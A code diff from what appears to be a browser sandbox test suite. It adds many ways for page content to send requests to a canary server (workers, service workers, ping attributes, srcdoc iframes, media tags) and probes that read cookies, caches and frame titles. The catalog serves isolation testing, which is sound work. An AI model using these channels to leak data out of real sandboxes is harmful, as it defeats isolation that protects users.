@@ -35,6 +35,16 @@ const WAYS = {
   worker: () => new Worker(window.URL.createObjectURL(new Blob([`fetch('${to('worker')}', {mode: 'no-cors'})`]))),
   popup: () => { window.open(to('popup')); },
   blank: () => { const a = document.createElement('a'); a.href = to('blank'); a.target = '_blank'; a.dispatchEvent(new MouseEvent('click')); },
+  audio: () => put(`<audio src="${to('audio')}" autoplay preload="auto"></audio>`),
+  embed: () => put(`<embed src="${to('embed')}">`),
+  inputimage: () => put(`<input type="image" src="${to('inputimage')}">`),
+  listimage: () => put(`<ul style="list-style-image:url('${to('listimage')}')"><li>x</li></ul>`),
+  modulepreload: () => put(`<link rel="modulepreload" href="${to('modulepreload')}">`),
+  dataworker: () => new Worker(`data:text/javascript,fetch('${to('dataworker')}', {mode: 'no-cors'})`),
+  sharedworker: () => new SharedWorker(window.URL.createObjectURL(new Blob([`fetch('${to('sharedworker')}', {mode: 'no-cors'})`]))),
+  serviceworker: () => navigator.serviceWorker.register(to('serviceworker')).catch(() => 0),
+  below: () => put(`<iframe srcdoc="<script>fetch('${to('below')}', {mode: 'no-cors'})<\\/script>"></iframe>`),
+  ping: () => { put(`<a href="#ping" ping="${to('ping')}">x</a>`); document.body.lastElementChild.click(); },
   form: () => { put(`<form action="${to('form')}" method="post" target="_blank"><input name="a"></form>`); document.body.lastElementChild.submit(); },
 };
 // Each of these leaves the page, where it is let.
@@ -106,6 +116,9 @@ const GRABS = {
   socket: () => new Promise((yes, no) => { const s = new WebSocket(`${JUPYTER.replace('http', 'ws')}/jupyter-peer/ws`); s.onopen = () => yes('open'); s.onerror = no; }),
   clipboard: () => navigator.clipboard.readText(),
   webrtc: () => new RTCPeerConnection().connectionState,
+  caches: async () => (await caches.keys()).length,
+  cookieStore: async () => (await cookieStore.getAll()).length,
+  frames: () => Array.from({ length: top.length }, (_, n) => top[n].document.title).join(),
   serviceWorker: async () => (await navigator.serviceWorker.getRegistrations()).length,
 };
 const grab = async () => {
@@ -163,6 +176,8 @@ class Canary:
             def do_GET(self) -> None:
                 path = self.path.split("?")[0]
                 page = canary.pages.get(path)
+                # A request with a body keeps its connection as it is until that was read.
+                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                 if page is None:
                     canary.heard.append(path[1:])
                 self.send_response(200)
